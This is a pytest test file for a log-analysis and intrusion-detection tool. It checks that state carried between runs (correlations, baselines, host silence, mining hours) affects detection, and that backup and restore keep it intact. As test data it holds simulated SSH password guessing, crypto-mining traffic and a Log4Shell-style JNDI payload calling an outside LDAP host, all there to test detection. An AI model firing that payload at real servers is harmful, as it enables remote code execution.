"""Each part of what one run hands to the next: saved, loaded, and still in force; taken away, its effect is gone."""

from __future__ import annotations

import json
import shutil
import sqlite3
from collections.abc import Callable
from contextlib import closing
from datetime import datetime, timedelta
from pathlib import Path

import pytest

import kanaria as api
from kanaria.app.run.engine import Engine
from kanaria.app.run.judged import Judged
from kanaria.app.run.setup import prepare
from kanaria.core.types import Analysis
from kanaria.sources import text_stream
from kanaria.store.incidents import IncidentStore
from tests.app.running import Kanaria
from tests.app.test_cli_incident import DAY, SERVER, flow, logon
from tests.app.test_what_teaches import hourly, tables

STRANGER, RENTED = "203.0.113.9", "198.51.100.80"
DEVICE, POOL = "192.168.1.20", "203.0.113.44"


def parts(store: Path) -> set[str]:
    with IncidentStore(store) as opened:
        return set(opened.state())


def forget(store: Path, part: str) -> None:
    """As if the last run had not kept it."""
    with closing(sqlite3.connect(store / "incidents.sqlite", isolation_level=None)) as db:
        assert db.execute("DELETE FROM state WHERE name = ?", (part,)).rowcount == 1, part


@pytest.fixture(scope="module")
def first(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The first run: two days of a server, and the first half of somebody's guessing."""
    place = tmp_path_factory.mktemp("first")
    (place / "conn.log").write_text("\n".join(hourly(2)) + "\n")
    guesses = [logon(DAY + timedelta(days=2, seconds=7 * n), STRANGER, success=False) for n in range(40)]
    (place / "auth1.log").write_text("\n".join(guesses) + "\n")
    success = [logon(DAY + timedelta(days=2, minutes=6), STRANGER, success=True)]
    (place / "auth2.log").write_text("\n".join(success) + "\n")
    api.analyse(place / "conn.log", place / "auth1.log", store=place / "s")
    return place


@pytest.fixture
def without(first: Path, tmp_path: Path) -> Callable[[str | None], Path]:
    """A copy of the store as it is after the first run, or without a part of its state."""

    def copied(part: str | None) -> Path:
        place = tmp_path / f"s-{part}"
        shutil.copytree(first / "s", place)
        if part:
            forget(place, part)
        return place

    return copied


def severities(found: Analysis) -> list[str]:
    return [incident.severity for incident in found.incidents]


def test_these_are_the_parts(first: Path) -> None:
    """Who adds one says here what it is good for."""
    assert parts(first / "s") == {
        "sources", "carried", "contacts", "home", "correlations", "silence", "baseline", "judged",
    }  # fmt: skip


def test_sources_what_was_read_teaches_nothing_again(first: Path, without: Callable[[str | None], Path]) -> None:
    for part, same in ((None, True), ("sources", False)):
        store = without(part)
        before = tables(store)
        api.analyse(first / "conn.log", store=store)
        assert (tables(store) == before) is same, part


def test_carried_and_correlations_a_logon_belongs_to_the_guessing_before(
    first: Path, without: Callable[[str | None], Path]
) -> None:
    """What was half finished: the success alone is an ordinary logon."""
    whole = api.analyse(first / "auth2.log", store=without(None))
    assert "high" in severities(whole)
    rules = {f.rule for incident in whole.incidents for f in incident.findings}
    cut = api.analyse(first / "auth2.log", store=without("correlations"))
    fewer = {f.rule for incident in cut.incidents for f in incident.findings}
    assert fewer < rules, (fewer, rules)
    alone = api.analyse(first / "auth2.log", store=without("carried"))
    assert max(len(i.findings) for i in whole.incidents) > max((len(i.findings) for i in alone.incidents), default=0)


def parted(store: Path, part: str) -> list[tuple[str, Path]]:
    """The store of a first run, and as it would be without a part of its state."""
    left = store.with_name(f"{store.name}-without")
    shutil.copytree(store, left)
    forget(left, part)
    return [("whole", store), ("without", left)]


def test_contacts_hours_of_mining_count_over_all_runs(kanaria: Kanaria, tmp_path: Path) -> None:
    """A finding quotes fifty connections, and rows of events are not kept here: what was counted before is left."""
    (tmp_path / "k.toml").write_text("[events]\ndays = 0\n")

    def mines(folder: str, begin: datetime, times: int) -> None:
        (tmp_path / folder).mkdir()
        every = [flow(begin + timedelta(minutes=2 * n), n, DEVICE, POOL, 3333, seconds=60.0) for n in range(times)]
        (tmp_path / folder / "conn.log").write_text("\n".join(every) + "\n")
        asked = {
            "ts": begin.timestamp() - 30, "uid": f"D{times}", "id.orig_h": DEVICE, "id.orig_p": 5000,
            "id.resp_h": "192.168.1.1", "id.resp_p": 53, "proto": "udp", "query": "pool.supportxmr.com",
            "qtype_name": "A", "rcode_name": "NOERROR", "answers": [POOL],
        }  # fmt: skip
        (tmp_path / folder / "dns.log").write_text(json.dumps(asked) + "\n")

    mines("one", DAY + timedelta(hours=10), 200)
    mines("two", DAY + timedelta(hours=20), 3)
    run = ("--config", "k.toml", "--format", "json")
    assert kanaria("analyze", "one", "--store", "s", *run).status == 1
    hours = {}
    for name, store in parted(tmp_path / "s", "contacts"):
        (incident,) = kanaria("analyze", "two", "--store", str(store), *run).document["incidents"]
        hours[name] = incident["impact"]["estimate"]["inputs"][0]["value"]
    assert hours["whole"] == pytest.approx(203 / 60, abs=0.01) and hours["without"] < 1, hours


def test_home_a_single_conversation_is_of_the_server_that_an_earlier_run_showed(
    kanaria: Kanaria, tmp_path: Path
) -> None:
    visits = [flow(DAY + timedelta(minutes=n), n, f"198.18.1.{n}", RENTED, 443) for n in range(30)]
    (tmp_path / "one.log").write_text("\n".join(visits) + "\n")
    (tmp_path / "two.log").write_text(flow(DAY + timedelta(hours=2), 950, STRANGER, RENTED, 22) + "\n")
    kanaria("analyze", "one.log", "--store", "s")
    for (name, store), ours in zip(parted(tmp_path / "s", "home"), (RENTED, STRANGER), strict=True):
        said = " ".join(kanaria("analyze", "two.log", "--store", str(store)).out.split())
        assert f"{ours}/32 takes part in nearly every connection and counts as yours" in said, name


def written(host: str, since: float, hours: float) -> list[str]:
    """A logon each half hour."""
    times = [DAY + timedelta(hours=since + n / 2, seconds=len(host)) for n in range(int(2 * hours))]
    return [
        f"{at:%Y-%m-%dT%H:%M:%S}+00:00 {host} sshd[7]: Accepted publickey for root from 192.168.1.4 port 40000 ssh2"
        for at in times
    ]


def test_silence_a_host_that_stopped_between_two_runs_is_missed(kanaria: Kanaria, tmp_path: Path) -> None:
    """Its last record is of the first run, in which it was as regular as ever."""
    hosts = ("gate", "web01", "mail01", "files1")
    for number, (since, hours, names) in enumerate([(0, 30, hosts), (30, 20, hosts[1:])], 1):
        lines = sorted(line for name in names for line in written(name, since, hours))
        (tmp_path / f"remote{number}.log").write_text("\n".join(lines) + "\n")
    assert kanaria("analyze", "remote1.log", "--store", "s").status == 0
    for (name, store), status in zip(parted(tmp_path / "s", "silence"), (1, 0), strict=True):
        done = kanaria("analyze", "remote2.log", "--store", str(store), "--format", "json")
        assert done.status == status, name
        rules = {finding["rule"] for one in done.document["incidents"] for finding in one["findings"]}
        assert rules == ({"log_source_silent"} if status else set()), name
    again = kanaria("analyze", "remote2.log", "--store", "s", "--format", "json")
    assert {one["alert"]["kind"] for one in again.document["incidents"]} <= {"unchanged"}, "it is told once"


def test_web_what_a_server_usually_answers_is_known_after_a_restart(tmp_path: Path) -> None:
    """As ``kanaria serve`` does: an attack that gets what everybody gets has less of a success."""
    page = '203.0.113.{n} - - [{at:%d/%b/%Y:%H:%M:%S +0000}] "GET / HTTP/1.1" 200 5120 "-" "Mozilla/5.0"'
    pages = "\n".join(page.format(n=n, at=DAY + timedelta(minutes=n)) for n in range(60))
    attack = page.replace("GET /", "GET /?x=${{jndi:ldap://198.51.100.9/a}}").format(n=99, at=DAY + timedelta(hours=2))

    def lives(store: Path, text: str) -> list[str]:
        with Engine(prepare(store=store), lateness=timedelta(0)) as engine:
            judged = engine.step(engine.read([text_stream("access.log", text.encode())]))
            engine.commit(judged, checkpoint=False)
            engine.commit(engine.hurry(), checkpoint=False)
            engine.commit(Judged(changed=()))
        return [item.kind for incident in judged.changed for item in incident.evidence]

    assert lives(tmp_path / "s", pages) == []
    for (name, store), known in zip(parted(tmp_path / "s", "web"), (True, False), strict=True):
        found = lives(store, f"{page.format(n=7, at=DAY)}\n{attack}")
        assert found and ("size_as_usual_for_status" in found) is known, name


class TestArchive:
    """``backup`` takes along everything that the next run and a reader of incidents need."""

    @pytest.fixture
    def restored(self, first: Path, kanaria: Kanaria, tmp_path: Path) -> tuple[Path, Path]:
        original = tmp_path / "original"
        shutil.copytree(first / "s", original)
        ident = kanaria("incident", "list", "--store", "original").out.split()[0]
        kanaria("incident", "set", ident, "acknowledged", "--why", "on it", "--who", "Hanako", "--store", "original")
        assert kanaria("backup", "b.tar.gz", "--store", "original").status == 0
        assert kanaria("restore", "b.tar.gz", "--store", "copy").status == 0
        return original, tmp_path / "copy"

    def test_every_table_and_part(self, restored: tuple[Path, Path]) -> None:
        def rows(store: Path) -> dict[str, list[object]]:
            with closing(sqlite3.connect(store / "incidents.sqlite")) as db:
                names = [name for (name,) in db.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
                return {name: sorted(map(repr, db.execute(f'SELECT * FROM "{name}"'))) for name in names}  # noqa: S608

        original, copy = map(rows, restored)
        assert original == copy and {"incident", "finding", "evidence", "record", "decision", "news", "state"} <= set(
            copy
        )

    def test_what_people_decided_and_said(self, restored: tuple[Path, Path], kanaria: Kanaria) -> None:
        (line,) = kanaria("incident", "list", "--store", "copy").out.splitlines()
        assert " acknowledged " in line
        assert (
            "Hanako: open → acknowledged (on it)" in kanaria("incident", "show", line.split()[0], "--store", "copy").out
        )

    def test_what_is_normal(self, restored: tuple[Path, Path], kanaria: Kanaria) -> None:
        shown = [kanaria("baseline", "show", SERVER, "--store", name).out for name in ("original", "copy")]
        assert shown[0] == shown[1] and "192.168.1.1" in shown[0]

    def test_rows_of_events(self, restored: tuple[Path, Path]) -> None:
        original, copy = ({p.name: p.read_bytes() for p in (store / "events").glob("*.parquet")} for store in restored)
        assert original and original == copy

    def test_what_was_read_and_half_finished(self, restored: tuple[Path, Path], first: Path) -> None:
        again = api.analyse(first / "auth1.log", first / "auth2.log", store=restored[1])
        assert {i.alert.kind for i in again.incidents if i.alert} == {"escalated"} and "high" in severities(again)

    def test_it_is_its_owners_alone(self, restored: tuple[Path, Path], tmp_path: Path) -> None:
        assert (tmp_path / "b.tar.gz").stat().st_mode & 0o077 == 0
        assert restored[1].stat().st_mode & 0o077 == 0

    @pytest.mark.parametrize("broken", [b"", b"no archive", b"\x1f\x8b\x08cut"])
    def test_what_is_no_archive_changes_nothing(self, kanaria: Kanaria, tmp_path: Path, broken: bytes) -> None:
        (tmp_path / "b.tar.gz").write_bytes(broken)
        done = kanaria("restore", "b.tar.gz", "--store", "new")
        assert done.status == 2 and "expected an archive of kanaria backup" in done.err
        assert not (tmp_path / "new" / "incidents.sqlite").exists()

    def test_without_a_store_there_is_nothing_to_save(self, kanaria: Kanaria, tmp_path: Path) -> None:
        done = kanaria("backup", "b.tar.gz", "--store", "none")
        assert done.status == 2 and "expected a store to back up; got none" in done.err
        assert not list(tmp_path.glob("*b.tar.gz*"))
